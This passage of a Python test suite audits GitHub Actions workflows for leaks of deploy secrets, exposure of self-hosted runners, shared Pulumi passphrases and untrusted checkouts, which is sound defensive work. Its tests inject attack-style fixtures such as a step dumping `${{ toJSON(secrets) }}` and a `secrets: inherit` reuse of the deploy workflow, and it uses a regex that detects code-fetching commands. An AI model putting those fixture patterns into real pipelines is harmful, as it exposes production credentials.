        while peek() in ("==", "!="):
            operator, right = take(), primary()
            same = left.lower() == right.lower() if isinstance(left, str) and isinstance(right, str) else left == right
            left = same if operator == "==" else not same
        return left

    def conjunction() -> object:
        left = comparison()
        while peek() == "&&":
            take()
            right = comparison()
            left = right if left else left
        return left

    def disjunction() -> object:
        left = conjunction()
        while peek() == "||":
            take()
            right = conjunction()
            left = left if left else right
        return left

    value = disjunction()
    assert position == len(tokens), f"{expression}: stopped at {tokens[position:]}"
    return value


STATUS_FUNCTION = re.compile(r"\b(always|success|failure|cancelled)\s*\(")


def runs(workflow: dict[Any, Any], job_name: str, context: Mapping[str, str | None]) -> bool:
    """Whether the job runs in this context: its own `if:` and those of every job it needs, none of which failed.

    A job it needs that does not run is `skipped`, with no outputs; one that runs has the result the context gives
    it (`needs.<job>.result`), else `success`. As in GitHub, an `if:` that calls a status function (`always()`,
    `success()`, `failure()`, `cancelled()`) decides alone, whatever those results; any other `if:` holds only once
    every job needed succeeded.
    """
    job = workflow["jobs"][job_name]
    needs = job.get("needs", [])
    needs = [needs] if isinstance(needs, str) else needs
    scope: dict[str, object] = dict(context)
    results = {}
    for need in needs:
        if runs(workflow, need, context):
            results[need] = context.get(f"needs.{need}.result") or "success"
        else:
            results[need] = "skipped"
            declared = workflow["jobs"][need].get("outputs", {})
            scope.update({f"needs.{need}.outputs.{output}": None for output in declared})
        scope[f"needs.{need}.result"] = results[need]
    condition = job.get("if")
    if isinstance(condition, str) and STATUS_FUNCTION.search(condition):
        scope.update(
            {
                "always()": True,
                "success()": all(result == "success" for result in results.values()),
                "failure()": any(result == "failure" for result in results.values()),
                "cancelled()": any(result == "cancelled" for result in results.values()),
            }
        )
        return bool(evaluate(condition, scope))
    own = bool(evaluate(condition, scope)) if "if" in job else True
    return own and all(result == "success" for result in results.values())


class StepScope(dict[str, Any]):
    """A context in which a step output no step has written reads as '', as in GitHub."""

    def __contains__(self, key: object) -> bool:
        return super().__contains__(key) or str(key).startswith("steps.")

    def __missing__(self, key: str) -> str:
        return ""


def interpolate(text: str, context: Mapping[str, Any]) -> str:
    """A value with `${{ }}` expressions, as GitHub hands it to a step (null as '', booleans as true/false)."""

    def one(match: re.Match[str]) -> str:
        value = evaluate(match.group(1), context)
        return "" if value is None else json.dumps(value) if isinstance(value, bool) else str(value)

    return re.sub(r"\$\{\{(.*?)\}\}", one, text)


@functools.cache
def run_cached(shell_words: tuple[str, ...], script: str, tree: str, env: tuple[tuple[str, str], ...]) -> str:
    """Run a script of the `stacks` job once per input: its exit status and what it wrote to GITHUB_OUTPUT, as JSON."""
    with tempfile.TemporaryDirectory(prefix="workflow-output-") as scratch:
        output = Path(scratch) / "output"
        output.write_text("")
        result = subprocess.run(
            [*shell_words, script], cwd=tree, capture_output=True, text=True, check=False,
            env={"PATH": "/usr/bin:/bin", "GITHUB_OUTPUT": str(output), **dict(env)},
        )  # fmt: skip
        written = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
    return json.dumps({"status": result.returncode, "outputs": written})


def plan(workflow: dict[Any, Any], context: Mapping[str, Any], tree: Path) -> dict[str, Any]:
    """Run the workflow's `stacks` job as GitHub would in this context: `needs.stacks.result` and its outputs."""
    job = workflow["jobs"].get(PLAN_JOB)
    if job is None:
        return {}
    skipped: dict[str, Any] = {f"needs.{PLAN_JOB}.outputs.{name}": None for name in job.get("outputs", {})}
    if not runs(workflow, PLAN_JOB, context):
        return {**skipped, f"needs.{PLAN_JOB}.result": "skipped"}
    scope = StepScope(context)
    for step in job["steps"]:
        if "uses" in step:
            assert step["uses"].startswith("actions/checkout@"), f"{PLAN_JOB} may only check out: {step['uses']}"
            continue
        if "if" in step and not evaluate(step["if"], scope):
            continue
        env = tuple(sorted((key, interpolate(str(value), scope)) for key, value in step.get("env", {}).items()))
        ran = json.loads(run_cached(tuple(shell(workflow)), step["run"], str(tree), env))
        if ran["status"] != 0:
            return {**skipped, f"needs.{PLAN_JOB}.result": "failure"}
        if "id" in step:
            scope.update({f"steps.{step['id']}.outputs.{key}": value for key, value in ran["outputs"].items()})
    outputs = {f"needs.{PLAN_JOB}.outputs.{name}": interpolate(value, scope) for name, value in job["outputs"].items()}
    return {**outputs, f"needs.{PLAN_JOB}.result": "success"}


def contexts(workflow: dict[Any, Any], tree: Path = PROJECT_DIR) -> Iterator[dict[str, Any]]:
    """Every way the workflow can start, and the ways an attacker would try: a pull request, a push (to the branches
    `on.push` names, else to main or a branch), a start by hand from main or a branch with every combination of its
    inputs (INPUT_VALUES), anything else from main, a branch or a pull request; with what the `stacks` job outputs."""
    on = workflow["on"] if isinstance(workflow["on"], dict) else {}
    pushed = (on.get("push") or {}).get("branches")
    declared = ((on.get("workflow_dispatch") or {}).get("inputs")) or {}
    choices = {name: tuple(spec.get("options") or INPUT_VALUES[name]) for name, spec in declared.items()}
    refs = {
        "pull_request": ["refs/pull/7/merge"],
        "push": [f"refs/heads/{branch}" for branch in pushed] if pushed else [MAIN, "refs/heads/feature"],
        "workflow_dispatch": [MAIN, "refs/heads/feature"],
    }
    for event in sorted(events(workflow) | set(refs)):
        given = itertools.product(*choices.values()) if event == "workflow_dispatch" else [()]
        for values in list(given):
            for ref in refs.get(event, [MAIN, "refs/heads/feature", "refs/pull/7/merge"]):
                context: dict[str, Any] = {
                    "github.event_name": event,
                    "github.ref": ref,
                    "github.repository": "owner/repo",
                    "github.event.pull_request.head.repo.full_name": "owner/repo",
                    **{f"inputs.{name}": None for name in INPUT_VALUES},
                    **{f"inputs.{name}": value for name, value in zip(choices, values, strict=len(values) > 0)},
                }
                yield {**context, **plan(workflow, context, tree)}


def jobs_of(workflows: Mapping[str, dict[Any, Any]]) -> Iterator[tuple[str, dict[Any, Any], str, dict[str, Any]]]:
    for name, workflow in sorted(workflows.items()):
        for job_name, job in workflow["jobs"].items():
            yield name, workflow, job_name, job


def matrix_entries(job: dict[str, Any], context: Mapping[str, Any]) -> list[dict[str, Any]]:
    """The job's matrix in this context: its vectors combined, and its `include`, read with fromJSON if need be."""
    matrix = (job.get("strategy") or {}).get("matrix")
    if matrix is None:
        return [{}]
    include = matrix.get("include", [])
    if isinstance(include, str):
        argument = re.fullmatch(r"\$\{\{\s*fromJSON\((.*)\)\s*\}\}", include.strip())
        assert argument, f"a matrix include this test cannot read: {include}"
        include = json.loads(str(evaluate(argument.group(1), context)))
    vectors = {key: values for key, values in matrix.items() if key not in ("include", "exclude")}
    combined = [dict(zip(vectors, values, strict=True)) for values in itertools.product(*vectors.values())]
    return (combined if vectors else []) + list(include)


def instances(
    workflow: dict[Any, Any], job_name: str, tree: Path = PROJECT_DIR
) -> list[tuple[dict[str, Any], dict[str, Any]]]:
    """Every (context, matrix entry) the job runs with."""
    job = workflow["jobs"][job_name]
    return [
        (context, entry)
        for context in contexts(workflow, tree)
        if runs(workflow, job_name, context)
        for entry in matrix_entries(job, context)
    ]


def substitute(text: str, context: Mapping[str, Any], entry: Mapping[str, Any]) -> str:
    """A job setting with its matrix filled in; what the test cannot know (a job's output) becomes `*`."""

    def one(match: re.Match[str]) -> str:
        expression = match.group(1).strip()
        if expression.startswith("matrix."):
            return str(entry[expression.removeprefix("matrix.")])
        try:
            value = evaluate(expression, context)
        except AssertionError:
            return "*"
        return "" if value is None else str(value)

    return re.sub(r"\$\{\{(.*?)\}\}", one, text)


def environments_of(workflow: dict[Any, Any], job_name: str, tree: Path = PROJECT_DIR) -> set[str | None]:
    """The GitHub environments the job may enter: its `environment`, with the matrix of every run expanded."""
    environment = workflow["jobs"][job_name].get("environment")
    if isinstance(environment, dict):
        environment = environment.get("name")
    if not isinstance(environment, str) or "${{" not in environment:
        return {environment}
    # A job that never runs enters none.
    return {substitute(environment, *instance) for instance in instances(workflow, job_name, tree)}


def stack_runs(
    workflow: dict[Any, Any], job_name: str, step: dict[str, Any], tree: Path = PROJECT_DIR
) -> set[tuple[str, str | None]]:
    """The (stack, environment) pairs a Pulumi step acts on, its matrix expanded; `pr-*` for any pull request's."""
    job = workflow["jobs"][job_name]
    environment = job.get("environment")
    found = set()
    for context, entry in instances(workflow, job_name, tree) or [({}, {})]:
        stack = substitute(step["with"]["stack-name"], context, entry)
        found.add((stack, substitute(environment, context, entry) if isinstance(environment, str) else None))
    return found


def stack_class(stack: str, tree: Path) -> str:
    """What a stack's passphrase must not be shared beyond: its environment, or the pull-request stacks."""
    environments = {listed_stack["name"]: listed_stack["environment"] for listed_stack in listed(tree)}
    return "pull-request" if stack.startswith("pr-") else environments.get(stack, stack)


def pull_request_exposure(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """What a job a pull request starts holds beyond staging's read-only preview secrets."""
    allowed = ENVIRONMENT_SECRETS["staging-preview"] | WITHOUT_ENVIRONMENT
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        if events(workflow) & PULL_REQUEST_EVENTS:
            found += [f"{name} {job_name}: reads {secret}" for secret in sorted(secrets_of(workflow, job) - allowed)]
            if job.get("environment") not in (None, "staging-preview"):
                found.append(f"{name} {job_name}: enters environment {job['environment']}")
    return found


def pull_request_runners(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """Jobs a pull request starts that could land on a self-hosted runner, such as the deploy runner."""
    return [
        f"{name} {job_name}: runs on {job['runs-on']}"
        for name, workflow, job_name, job in jobs_of(workflows)
        if events(workflow) & PULL_REQUEST_EVENTS and not GITHUB_HOSTED.match(str(job["runs-on"]))
    ]


def forbidden_triggers(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    return [
        f"{name}: on {event}"
        for name, workflow in sorted(workflows.items())
        for event in events(workflow) & FORBIDDEN_EVENTS
    ]


def misplaced_secrets(workflows: Mapping[str, dict[Any, Any]], tree: Path = PROJECT_DIR) -> list[str]:
    """Secrets a job reads that an environment it may enter does not hold: repository secrets, or another's."""
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        read = secrets_of(workflow, job) - WITHOUT_ENVIRONMENT
        if not read:
            continue
        for environment in sorted(environments_of(workflow, job_name, tree), key=str):
            held = ENVIRONMENT_SECRETS.get(environment, frozenset()) if environment else frozenset()
            for secret in sorted(read - held):
                found.append(f"{name} {job_name}: reads {secret} outside an environment that holds it ({environment})")
    return found


def production_exposure(workflows: Mapping[str, dict[Any, Any]], tree: Path = PROJECT_DIR) -> list[str]:
    """Jobs holding production's secrets other than the approved production deploy: by hand, from main, confirmed,
    in the environment of a production stack and no other."""
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        read = secrets_of(workflow, job)
        production = {secret for secret in read if secret in PRODUCTION_ONLY or "PRODUCTION" in secret}
        entered = environments_of(workflow, job_name, tree)
        if not production and not entered & PRODUCTION_ENVIRONMENTS:
            continue
        where = f"{name} {job_name}"
        if entered - PRODUCTION_ENVIRONMENTS:
            if production:
                found.append(f"{where}: reads {sorted(production)} without environment production")
            else:
                found.append(f"{where}: enters {sorted(map(str, entered - PRODUCTION_ENVIRONMENTS))} as well")
        if events(workflow) - {"push", "workflow_dispatch"}:
            found.append(
                f"{where}: its workflow also runs on {sorted(events(workflow) - {'push', 'workflow_dispatch'})}"
            )
        started = [context for context in contexts(workflow, tree) if runs(workflow, job_name, context)]
        for context in started:
            if context["github.ref"] != MAIN or context["github.event_name"] != "workflow_dispatch":
                found.append(f"{where}: runs on {context['github.event_name']} of {context['github.ref']}")
                break
        for context in started:
            if context["inputs.confirm"] != "DEPLOY":
                found.append(f"{where}: runs without the typed confirmation (confirm: {context['inputs.confirm']!r})")
                break
    return found


def deploy_runner_exposure(workflows: Mapping[str, dict[Any, Any]], tree: Path = PROJECT_DIR) -> list[str]:
    """Jobs that may land on the deploy runner (any runner not hosted by GitHub) other than deploys from main."""
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        if GITHUB_HOSTED.match(str(job["runs-on"])):
            continue
        for context in contexts(workflow, tree):
            event, ref = context["github.event_name"], context["github.ref"]
            if event in events(workflow) and runs(workflow, job_name, context) and (ref, event) not in FROM_MAIN:
                found.append(f"{name} {job_name}: {job['runs-on']} on {event} of {ref}")
                break
    return found


def secrets_off_main(workflows: Mapping[str, dict[Any, Any]], tree: Path = PROJECT_DIR) -> list[str]:
    """Jobs of workflows no pull request starts that hold a secret and may run from a ref other than main."""
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        if events(workflow) & PULL_REQUEST_EVENTS or not secrets_of(workflow, job) - WITHOUT_ENVIRONMENT:
            continue
        for context in contexts(workflow, tree):
            event, ref = context["github.event_name"], context["github.ref"]
            if event in events(workflow) and runs(workflow, job_name, context) and ref != MAIN:
                found.append(f"{name} {job_name}: holds secrets on {event} of {ref}")
                break
    return found


def shared_passphrases(workflows: Mapping[str, dict[Any, Any]], tree: Path = PROJECT_DIR) -> list[str]:
    """Stacks decrypted with more than one passphrase, passphrases that decrypt more than one stack, and passphrase
    names shared by stacks of different environments. A passphrase is a secret's name in the environment that holds
    it (COPY_OF: staging-preview holds staging's); all pull-request stacks count as one, `pr-*`."""
    used: dict[str, set[tuple[str | None, str]]] = {}
    for _, workflow, job_name, job in jobs_of(workflows):
        for step in job.get("steps", []):
            if step.get("uses", "").startswith("pulumi/actions@") and "command" in step.get("with", {}):
                environment = {**workflow.get("env", {}), **job.get("env", {}), **step.get("env", {})}
                names = set(SECRET_NAME.findall(str(environment.get("PULUMI_CONFIG_PASSPHRASE", ""))))
                for stack, held_by in stack_runs(workflow, job_name, step, tree):
                    owner = COPY_OF.get(held_by, held_by) if held_by else None
                    used.setdefault(stack, set()).update((owner, secret) for secret in names)

    def shown(passphrase: tuple[str | None, str]) -> str:
        return f"{passphrase[1]} of {passphrase[0] or 'the repository'}"

    found = [
        f"{stack} is decrypted with {sorted(map(shown, passphrases))}"
        for stack, passphrases in sorted(used.items())
        if len(passphrases) != 1
    ]
    every = set().union(*used.values())
    for passphrase in sorted(every, key=shown):
        stacks = sorted(stack for stack, passphrases in used.items() if passphrase in passphrases)
        if len(stacks) > 1:
            found.append(f"{shown(passphrase)} decrypts {' and '.join(stacks)}")
    for secret in sorted({secret for _, secret in every}):
        stacks = sorted(stack for stack, passphrases in used.items() if any(name == secret for _, name in passphrases))
        if len({stack_class(stack, tree) for stack in stacks}) > 1:
            found.append(f"{secret} decrypts {' and '.join(stacks)}")
    return found


def state_writers(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """Previews given a state key that can write, or told to refresh or create a stack (both write the state)."""
    found = []
    for name, _, job_name, job in jobs_of(workflows):
        for step in job.get("steps", []):
            settings = step.get("with", {})
            if step.get("uses", "").startswith("pulumi/actions@") and settings.get("command") == "preview":
                for variable in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
                    if not re.fullmatch(r"\$\{\{ secrets\.STATE_READ_\w+ \}\}", step.get("env", {}).get(variable, "")):
                        found.append(f"{name} {job_name}: {variable} is not a read-only state key")
                found += [
                    f"{name} {job_name}: {key} is not false"
                    for key in ("refresh", "upsert")
                    if settings.get(key) is not False
                ]
    return found


# What in a `run:` script brings in other code than the run's own: a pull request's ref, its checkout by gh, a git
# command that fetches or moves the checkout (options before it too: `git -C dir fetch`), a package from git.
FETCHES_CODE = re.compile(
    r"refs/pull/"
    r"|\bgh\s+pr\s+checkout\b"
    r"|\bgit\s+(?:-\S+\s+(?:[^-\s]\S*\s+)?)*(?:fetch|checkout|switch|reset|pull|clone|worktree)\b"
    r"|\bpip3?\s+install\b[^\n]*\bgit\+"
)


def holds_something(workflow: dict[Any, Any], job: dict[str, Any]) -> bool:
    """Whether the job holds what other code must not reach: a secret, an environment's, or a token that writes."""
    granted = job.get("permissions", workflow.get("permissions")) or {}
    writes = granted == "write-all" or (isinstance(granted, dict) and "write" in granted.values())
    return bool(secrets_of(workflow, job) - WITHOUT_ENVIRONMENT) or "environment" in job or writes


def fetching_scripts(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """`run:` scripts that bring in other code than the run's own, in jobs that hold something."""
    found = []
    for name, workflow, job_name, job in jobs_of(workflows):
        if holds_something(workflow, job):
            for step in job.get("steps", []):
                fetched = FETCHES_CODE.search(str(step.get("run", "")))
                if fetched:
                    found.append(f"{name} {job_name}: a script brings in other code ({fetched.group(0).strip()})")
    return found


def untrusted_checkouts(workflows: Mapping[str, dict[Any, Any]]) -> list[str]:
    """Checkouts of another commit than the run's own (a pull request's code), unless approved and contained: the
    commit a job named before the approval, in the pull-request-stacks environment (required reviewers), on GitHub's
    runner, with a read-only token not left in the checkout, in a workflow no pull request starts. And, in a job
    that holds a secret (or a token that writes), any `run:` script that fetches or checks out other code: that
    would pass every rule above unseen. The approved checkout is actions/checkout's, so no job is exempt."""
    found = fetching_scripts(workflows)
    for name, workflow, job_name, job in jobs_of(workflows):
        for step in job.get("steps", []):
            settings = step.get("with", {})
            if not step.get("uses", "").startswith("actions/checkout@") or not {"ref", "repository"} & set(settings):
                continue
            where = f"{name} {job_name}"
            needs = [job.get("needs")] if isinstance(job.get("needs"), str) else job.get("needs", [])
            named = re.fullmatch(r"\$\{\{ needs\.([\w-]+)\.outputs\.sha \}\}", str(settings.get("ref")))
            if "repository" in settings or not named or named.group(1) not in needs:
                found.append(f"{where}: checks out {settings}, not a commit a job before the approval named")
            elif workflow["jobs"][named.group(1)].get("environment") or secrets_of(
                workflow, workflow["jobs"][named.group(1)]
            ):
                found.append(f"{where}: the commit is named by {named.group(1)}, which holds secrets")
            if job.get("environment") != PULL_REQUEST_STACKS:
                found.append(f"{where}: checks out a pull request outside {PULL_REQUEST_STACKS}")
            if not GITHUB_HOSTED.match(str(job["runs-on"])):
                found.append(f"{where}: checks out a pull request on {job['runs-on']}")
            granted = job.get("permissions", workflow.get("permissions"))
            if granted not in ({}, {"contents": "read"}):
                found.append(f"{where}: checks out a pull request with permissions {granted}")
            if settings.get("persist-credentials") is not False:
                found.append(f"{where}: leaves the token in a pull request's checkout")
            if events(workflow) & PULL_REQUEST_EVENTS:
                found.append(f"{where}: checks out a pull request in a workflow pull requests start")
    return found


def current() -> dict[str, dict[Any, Any]]:
    return {name: load(name) for name in all_workflows()}


def as_in_issue_18() -> dict[str, dict[Any, Any]]:
    return {**current(), "preview.yml": copy.deepcopy(ISSUE_18_PREVIEW)}


def test_no_pull_request_job_holds_a_passphrase_a_state_write_key_or_a_production_secret() -> None:
    assert pull_request_exposure(current()) == []
    assert set(pull_request_exposure(as_in_issue_18())) == {
        "preview.yml preview: reads PULUMI_CONFIG_PASSPHRASE",
        "preview.yml preview: reads STATE_ACCESS_KEY_ID",
        "preview.yml preview: reads STATE_SECRET_ACCESS_KEY",
        "preview.yml preview: reads HCLOUD_READ_TOKEN_PRODUCTION",
    }
    # Nor by the back doors: a production environment, every secret at once, a reusable workflow inheriting them.
    sneaky = current()
    job = sneaky["preview.yml"]["jobs"]["staging"]
    job["environment"] = "production"
    job["steps"].append({"run": "echo done", "env": {"ALL": "${{ toJSON(secrets) }}"}})
    sneaky["check.yml"]["jobs"]["reuse"] = {"uses": "./.github/workflows/deploy.yml", "secrets": "inherit"}
    assert set(pull_request_exposure(sneaky)) == {
        "preview.yml staging: enters environment production",
        f"preview.yml staging: reads {ALL_SECRETS}",
        f"check.yml reuse: reads {ALL_SECRETS}",
    }
    # Nor a pull-request stack deployed whenever a pull request changes: its secrets are for approved code only.
    on_change = current()
    on_change["pr-stack.yml"]["on"] = {"pull_request": None}
    assert "pr-stack.yml stack: enters environment pull-request-stacks" in pull_request_exposure(on_change)


def test_no_pull_request_job_runs_on_the_deploy_runner_or_any_self_hosted_one() -> None:
    assert pull_request_runners(current()) == []
    assert pull_request_runners(as_in_issue_18()) == [
        "preview.yml preview: runs on ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }}"
    ]
    labelled = current()
    labelled["check.yml"]["jobs"]["test"]["runs-on"] = ["self-hosted", "deploy"]
    assert pull_request_runners(labelled) == ["check.yml test: runs on ['self-hosted', 'deploy']"]


def test_only_deploys_from_main_reach_the_deploy_runner() -> None:
    assert deploy_runner_exposure(current()) == []
    assert deploy_runner_exposure(as_in_issue_18()) == [
        "preview.yml preview: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on pull_request of refs/pull/7/merge"
    ]
    # Before issue 18 a staging deploy started by hand from any branch ran there too.
    any_branch = current()
    jobs = any_branch["deploy.yml"]["jobs"]
    jobs["stacks"]["if"] = "true"
    jobs["staging"]["if"] = "needs.stacks.outputs.staging != '[]'"
    assert deploy_runner_exposure(any_branch) == [
        "deploy.yml staging: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on workflow_dispatch of refs/heads/feature"
    ]
    # A pull request's stack there: its approved code next to production's SSH port.
    on_runner = current()
    on_runner["pr-stack.yml"]["jobs"]["stack"]["runs-on"] = "${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }}"
    on_runner["pr-stack.yml"]["jobs"]["stack"]["if"] = "github.event_name == 'workflow_dispatch'"
    on_runner["pr-stack.yml"]["jobs"]["pull-request"]["if"] = "github.event_name == 'workflow_dispatch'"
    assert deploy_runner_exposure(on_runner) == [
        "pr-stack.yml stack: ${{ vars.DEPLOY_RUNNER || 'ubuntu-24.04' }} on workflow_dispatch of refs/heads/feature"
    ]


def test_pull_request_target_and_workflow_run_are_never_used() -> None:
    assert forbidden_triggers(current()) == []
    target = as_in_issue_18()
    target["preview.yml"]["on"] = {"pull_request_target": None}
    target["check.yml"]["on"] = {"workflow_run": {"workflows": ["check"]}}
    assert forbidden_triggers(target) == ["check.yml: on workflow_run", "preview.yml: on pull_request_target"]
    assert {name: events(workflow) for name, workflow in current().items()} == {
        "check.yml": {"pull_request", "push"},
        "deploy.yml": {"push", "workflow_dispatch"},
        "pr-stack.yml": {"workflow_dispatch", "schedule"},
        "preview.yml": {"pull_request"},
    }
    assert load("deploy.yml")["on"]["push"] == {"branches": ["main"]}


def test_every_secret_is_read_from_the_environment_that_holds_it() -> None:
    assert misplaced_secrets(current()) == []
    found = misplaced_secrets(as_in_issue_18())
    assert "preview.yml preview: reads PULUMI_CONFIG_PASSPHRASE outside an environment that holds it (None)" in found
    assert len(found) == 7, found
    # Production's passphrase handed to the deploy of staging's stacks: their environments do not hold it.
    crossed = current()
    ((_, step),) = [(job, step) for job, step in pulumi_steps(crossed["deploy.yml"]) if job == "staging"]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_PRODUCTION }}"
    assert misplaced_secrets(crossed) == [
        "deploy.yml staging: reads PULUMI_CONFIG_PASSPHRASE_PRODUCTION outside an environment that holds it (staging)"
    ]
    # A pull-request stack given staging's passphrase: its environment holds no such thing.
    borrowed = current()
    ((_, step),) = [
        (job, step) for job, step in pulumi_steps(borrowed["pr-stack.yml"]) if step["with"]["command"] == "up"
    ]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_STAGING }}"
    assert misplaced_secrets(borrowed) == [
        "pr-stack.yml stack: reads PULUMI_CONFIG_PASSPHRASE_STAGING outside an environment that holds it "
        "(pull-request-stacks)"
    ]


def test_production_secrets_exist_only_in_the_approved_deploy_started_by_hand_on_main() -> None:
    assert {
        "PULUMI_CONFIG_PASSPHRASE_PRODUCTION",
        "STATE_ACCESS_KEY_ID_PRODUCTION",
        "STATE_SECRET_ACCESS_KEY_PRODUCTION",
    } == PRODUCTION_ONLY
    workflows = current()
    assert production_exposure(workflows) == []
    readers = [
        (name, job_name)
        for name, workflow, job_name, job in jobs_of(workflows)
        if secrets_of(workflow, job) & PRODUCTION_ONLY
    ]
    assert readers == [("deploy.yml", "production")]
    assert production_exposure(as_in_issue_18()) == [
        "preview.yml preview: reads ['HCLOUD_READ_TOKEN_PRODUCTION'] without environment production",
        "preview.yml preview: its workflow also runs on ['pull_request']",
        "preview.yml preview: runs on pull_request of refs/pull/7/merge",
        "preview.yml preview: runs without the typed confirmation (confirm: None)",
    ]
    # Without its environment, or dispatched from any branch, the production deploy is caught as well.
    unguarded = current()
    jobs = unguarded["deploy.yml"]["jobs"]
    del jobs["production"]["environment"]
    jobs["stacks"]["if"] = "true"
    jobs["production"]["if"] = "needs.stacks.outputs.production != '[]'"
    assert production_exposure(unguarded) == [
        "deploy.yml production: reads ['PULUMI_CONFIG_PASSPHRASE_PRODUCTION', 'STATE_ACCESS_KEY_ID_PRODUCTION', "
        "'STATE_SECRET_ACCESS_KEY_PRODUCTION'] without environment production",
        "deploy.yml production: runs on workflow_dispatch of refs/heads/feature",
    ]


def test_production_deploys_only_when_confirmed_whatever_the_list_says(tmp_path: Path) -> None:
    # Without the confirmation step, a production deploy would start on any answer.
    unconfirmed = current()
    stacks_steps = unconfirmed["deploy.yml"]["jobs"]["stacks"]["steps"]
    stacks_steps.remove(named_step(unconfirmed["deploy.yml"], "stacks", CONFIRM_STEP))
    assert production_exposure(unconfirmed) == [
        "deploy.yml production: runs without the typed confirmation (confirm: None)"
    ]
    # Production listed as `push`: the list's check stops every run, and the job's own condition holds anyway.
    document = {"stacks": [{**stack, "deploy": "push"} for stack in LISTED]}
    pushed = stack_tree(tmp_path, document)
    assert production_exposure(current(), pushed) == []
    results = {context["needs.stacks.result"] for context in contexts(load("deploy.yml"), pushed)}
    assert results == {"skipped", "failure"}
    # With the list's check gone too, a push still deploys no production stack: the job's own condition and the
    # confirmation, which a production stack needs whatever the list says, each stop it.
    unchecked = current()
    deploy = unchecked["deploy.yml"]
    deploy["jobs"]["stacks"]["steps"].remove(named_step(deploy, "stacks", CHECK_STEP))
    assert production_exposure(unchecked, pushed) == []
    deploy["jobs"]["production"]["if"] = "github.ref == 'refs/heads/main' && needs.stacks.outputs.production != '[]'"
    assert production_exposure(unchecked, pushed) == []
    deploy["jobs"]["stacks"]["steps"].remove(named_step(deploy, "stacks", CONFIRM_STEP))
    assert production_exposure(unchecked, pushed) == [
        "deploy.yml production: runs on push of refs/heads/main",
        "deploy.yml production: runs without the typed confirmation (confirm: None)",
    ]


def test_each_deploy_enters_only_the_environment_of_its_stack(tmp_path: Path) -> None:
    workflow = load("deploy.yml")
    for job in ("staging", "production"):
        for _, entry in instances(workflow, job):
            assert ENVIRONMENT_OF[entry["stack"]] == job
        assert environments_of(workflow, job) == {name for name, of in ENVIRONMENT_OF.items() if of == job}
    # A stack added to the list gets the environment named after it, and its deploy the names of its environment.
    tree = stack_tree(tmp_path, extra={"name": "dev", "environment": "staging", "deploy": "push"})
    assert environments_of(workflow, "staging", tree) == {"staging", "dev"}
    assert "dev" not in environments_of(workflow, "production", tree)


def test_stacks_are_decrypted_with_distinct_passphrases_by_environment(tmp_path: Path) -> None:
    assert shared_passphrases(current()) == []
    assert shared_passphrases(as_in_issue_18()) == [
        "production is decrypted with ['PULUMI_CONFIG_PASSPHRASE of the repository', "
        "'PULUMI_CONFIG_PASSPHRASE_PRODUCTION of production']",
        "staging is decrypted with ['PULUMI_CONFIG_PASSPHRASE of the repository', "
        "'PULUMI_CONFIG_PASSPHRASE_STAGING of staging']",
        "PULUMI_CONFIG_PASSPHRASE of the repository decrypts production and staging",
        "PULUMI_CONFIG_PASSPHRASE decrypts production and staging",
    ]
    one = current()
    for _, step in pulumi_steps(one["deploy.yml"]):
        step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"
    assert "PULUMI_CONFIG_PASSPHRASE decrypts production and staging" in shared_passphrases(one)
    # A second staging stack in staging's environment would share staging's passphrase, which every branch can read
    # through staging-preview: each stack has an environment of its own.
    tree = stack_tree(tmp_path, extra={"name": "dev", "environment": "staging", "deploy": "push"})
    assert shared_passphrases(current(), tree) == []
    shared = current()
    shared["deploy.yml"]["jobs"]["staging"]["environment"] = "staging"
    assert shared_passphrases(shared, tree) == ["PULUMI_CONFIG_PASSPHRASE_STAGING of staging decrypts dev and staging"]
    # Pull-request stacks never hold a staging stack's passphrase, under its name or their own.
    borrowed = current()
    ((_, step),) = [
        (job, step) for job, step in pulumi_steps(borrowed["pr-stack.yml"]) if step["with"]["command"] == "up"
    ]
    step["env"]["PULUMI_CONFIG_PASSPHRASE"] = "${{ secrets.PULUMI_CONFIG_PASSPHRASE_STAGING }}"
    assert "PULUMI_CONFIG_PASSPHRASE_STAGING decrypts pr-* and staging" in shared_passphrases(borrowed)


def test_the_preview_can_only_read_the_state() -> None:
    assert state_writers(current()) == []
    assert state_writers(as_in_issue_18()) == [
        "preview.yml preview: AWS_ACCESS_KEY_ID is not a read-only state key",
        "preview.yml preview: AWS_SECRET_ACCESS_KEY is not a read-only state key",
        "preview.yml preview: refresh is not false",
        "preview.yml preview: upsert is not false",
    ]


def test_secrets_are_held_only_by_runs_from_main() -> None:
    assert secrets_off_main(current()) == []
    anywhere = current()
    for job in anywhere["pr-stack.yml"]["jobs"].values():
        job["if"] = "github.event_name == 'workflow_dispatch'"
    assert secrets_off_main(anywhere) == [
        "pr-stack.yml stack: holds secrets on workflow_dispatch of refs/heads/feature"
    ]


def test_each_deploy_runs_exactly_when_it_should() -> None:
    workflow = load("deploy.yml")

    def started(job: str) -> set[tuple[str | None, ...]]:
        return {
            (context["github.event_name"], context["github.ref"], context["inputs.stack"], context["inputs.confirm"])
            for context in contexts(workflow)
            if runs(workflow, job, context)
        }

    by_hand = {("workflow_dispatch", MAIN, "staging", confirm) for confirm in INPUT_VALUES["confirm"]}
    assert started("staging") == {("push", MAIN, None, None), *by_hand}
    assert started("production") == {("workflow_dispatch", MAIN, "production", "DEPLOY")}
    # The evaluator itself: GitHub's precedence, and a condition it cannot judge is an error, not a pass.
    assert evaluate("!false && 'A' == 'a' || null", {}) is True
